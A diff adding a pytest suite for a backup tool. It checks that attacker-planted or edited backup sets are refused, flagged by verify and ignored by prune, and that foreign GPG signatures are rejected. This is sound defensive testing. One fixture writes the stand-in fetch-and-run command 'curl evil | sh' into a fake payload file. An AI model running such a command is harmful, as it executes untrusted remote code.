@@ -1,0 +1,161 @@
+"""A set must prove it was made with the user's key (SPEC §2, §7): whoever can write to a
+destination can plant a complete, well-formed set, or edit a real one; with a key
+configured, neither is restored, verified as good, counted or removed by prune."""
+
+from __future__ import annotations
+
+import json
+import shutil
+import subprocess
+from dataclasses import replace
+from datetime import datetime, timedelta, timezone
+from pathlib import Path
+
+import pytest
+
+from offsite.auth import mac
+from offsite.crypto import unwrap_key
+from offsite.manifest import Manifest, set_id_for
+from tests.conftest import PASSPHRASE, Keyring, only_set, tree_content
+
+PLANTED = set_id_for(datetime.now(timezone.utc) + timedelta(minutes=30))  # newest, not future
+
+
+@pytest.fixture
+def real(cli, tmp_path: Path, tree: Path, passphrase: str) -> Path:
+    dest = tmp_path / "dest"
+    assert cli("backup", tree, "--to", dest).code == 0
+    return dest
+
+
+def _planted_by_attacker(cli, tmp_path: Path, dest: Path, monkeypatch, *extra: str) -> Path:
+    """A whole set the attacker made with their own passphrase (or none), renamed to the
+    newest id and re-authenticated with their own data key: everything they can do."""
+    evil = tmp_path / "evil-src"
+    evil.mkdir()
+    (evil / "payload.sh").write_text("curl evil | sh\n")
+    made = tmp_path / "evil-dest"
+    monkeypatch.setenv("OFFSITE_PASSPHRASE", "the attacker's own passphrase")
+    assert cli("backup", "--name", f"files={evil}", "--to", made, *extra).code == 0
+    monkeypatch.setenv("OFFSITE_PASSPHRASE", PASSPHRASE)
+    folder = dest / PLANTED
+    shutil.copytree(only_set(made), folder)
+    manifest = Manifest.from_json((folder / "manifest.json").read_bytes())
+    manifest = replace(manifest, id=PLANTED, auth=None)
+    if (folder / "key.gpg").exists():
+        key = unwrap_key((folder / "key.gpg").read_bytes(), (), "the attacker's own passphrase")
+        manifest = replace(manifest, auth=mac(manifest, key))
+    (folder / "manifest.json").write_text(manifest.to_json())
+    return folder
+
+
+@pytest.mark.parametrize("extra", [(), ("--no-encrypt",)], ids=["own-passphrase", "unencrypted"])
+def test_a_planted_set_is_never_restored_verified_or_counted(
+    cli, tmp_path: Path, tree: Path, real: Path, monkeypatch, extra
+) -> None:
+    real_set = only_set(real)
+    planted = _planted_by_attacker(cli, tmp_path, real, monkeypatch, *extra)
+    r = cli("restore", real, "--into", tmp_path / "restored")
+    assert r.code == 0, r.err
+    assert f"restored set {real_set.name}" in r.out and f"passing over set {PLANTED}" in r.err
+    assert tree_content(tmp_path / "restored") == tree_content(tree)
+    named = cli("restore", real, "--id", PLANTED, "--into", tmp_path / "evil-out")
+    assert named.code == 1 and not (tmp_path / "evil-out").exists()
+    why = "is not encrypted" if extra else "does not prove it was made with your key"
+    assert why in named.err
+    checked = cli("verify", real, "--all", "--read-data")
+    assert checked.code == 1 and PLANTED in checked.out
+    pruned = cli("prune", real, "--keep-last", "1")
+    assert pruned.code == 0, pruned.err
+    assert planted.exists() and real_set.exists()
+    assert f"not counted nor removed: set {PLANTED}" in pruned.err
+    if extra:  # the user may choose to take an unencrypted set
+        ok = cli("restore", real, "--id", PLANTED, "--into", tmp_path / "o", "--allow-unencrypted")
+        assert ok.code == 0, ok.err
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [("labels", {"env": "prod", "note": "ok to delete"}), ("finished_at", "2099-01-01T00:00:00Z")],
+)
+def test_an_edited_manifest_is_refused(cli, tmp_path: Path, real: Path, field, value) -> None:
+    manifest = only_set(real) / "manifest.json"
+    doc = json.loads(manifest.read_text())
+    doc[field] = value
+    manifest.write_text(json.dumps(doc))
+    r = cli("verify", real, "--read-data")
+    assert r.code == 1 and "its manifest does not match its auth" in r.err
+    r = cli("restore", real, "--into", tmp_path / "out")
+    assert r.code == 1 and not (tmp_path / "out").exists()
+
+
+def test_a_set_made_for_recipients_proves_itself_by_its_signature(
+    cli, tmp_path: Path, tree: Path, with_keyring: Keyring, monkeypatch
+) -> None:
+    dest = tmp_path / "dest"
+    fpr = with_keyring.fingerprint
+    assert cli("backup", tree, "--to", dest, "--recipient", fpr, "--sign-key", fpr).code == 0
+    r = cli("restore", dest, "--into", tmp_path / "ok", "--trust-key", fpr)
+    assert r.code == 0, r.err
+    # another key's signature, or none, proves nothing
+    other = tmp_path / "other-home"
+    other.mkdir(mode=0o700)
+    subprocess.run(
+        ["gpg", "--homedir", str(other), "--batch", "--passphrase", "", "--quick-gen-key",
+         "intruder <x@example.invalid>", "default", "default", "never"],
+        check=True, capture_output=True,
+    )  # fmt: skip
+    signature = subprocess.run(
+        ["gpg", "--homedir", str(other), "--batch", "--detach-sign", "--output", "-",
+         str(only_set(dest) / "manifest.json")],
+        check=True, capture_output=True,
+    ).stdout  # fmt: skip
+    subprocess.run(["gpgconf", "--homedir", str(other), "--kill", "gpg-agent"], check=False)
+    (only_set(dest) / "manifest.json.sig").write_bytes(signature)
+    r = cli("restore", dest, "--into", tmp_path / "no", "--trust-key", fpr)
+    assert r.code == 1 and "not a good signature by a --trust-key" in r.err
+    (only_set(dest) / "manifest.json.sig").unlink()
+    r = cli("restore", dest, "--into", tmp_path / "no", "--trust-key", fpr)
+    assert r.code == 1 and "no manifest.json.sig" in r.err
+    assert not (tmp_path / "no").exists()
+
+
+def test_without_a_key_offsite_says_it_reads_unauthenticated_sets(
+    cli, tmp_path: Path, tree: Path
+) -> None:
+    dest = tmp_path / "dest"
+    assert cli("backup", tree, "--to", dest, "--no-encrypt").code == 0
+    r = cli("restore", dest, "--into", tmp_path / "out")
+    assert r.code == 0, r.err
+    assert "no key configured" in r.err and "unauthenticated" in r.err
+
+
+def test_an_older_set_without_auth_is_accepted_with_a_warning(
+    cli, tmp_path: Path, passphrase: str
+) -> None:
+    """Format 1, each entry encrypted with the passphrase itself, as offsite wrote them."""
+    import hashlib
+
+    folder = tmp_path / "dest" / "20240101T000000Z"
+    folder.mkdir(parents=True)
+    data = subprocess.run(
+        ["gpg", "--batch", "--homedir", str(tmp_path), "--pinentry-mode", "loopback",
+         "--passphrase", passphrase, "--symmetric", "--cipher-algo", "AES256", "--output", "-"],
+        input=b"from an older offsite\n", check=True, capture_output=True,
+    ).stdout  # fmt: skip
+    subprocess.run(["gpgconf", "--homedir", str(tmp_path), "--kill", "gpg-agent"], check=False)
+    (folder / "notes.out.gpg").write_bytes(data)
+    entry = {
+        "name": "notes", "kind": "command", "source": "exec:echo", "file": "notes.out.gpg",
+        "size": len(data), "sha256": hashlib.sha256(data).hexdigest(), "raw_size": 22,
+        "compression": "none", "encryption": {"mode": "passphrase", "cipher": "AES256",
+                                              "recipients": []},
+    }  # fmt: skip
+    (folder / "manifest.json").write_text(json.dumps({
+        "format": "offsite-manifest/1", "id": "20240101T000000Z", "created_at": "x",
+        "finished_at": "x", "entries": [entry],
+    }))  # fmt: skip
+    r = cli("restore", tmp_path / "dest", "--into", tmp_path / "notes.out")
+    assert r.code == 0, r.err
+    assert "made before sets carried auth" in r.err
+    assert (tmp_path / "notes.out").read_text() == "from an older offsite\n"
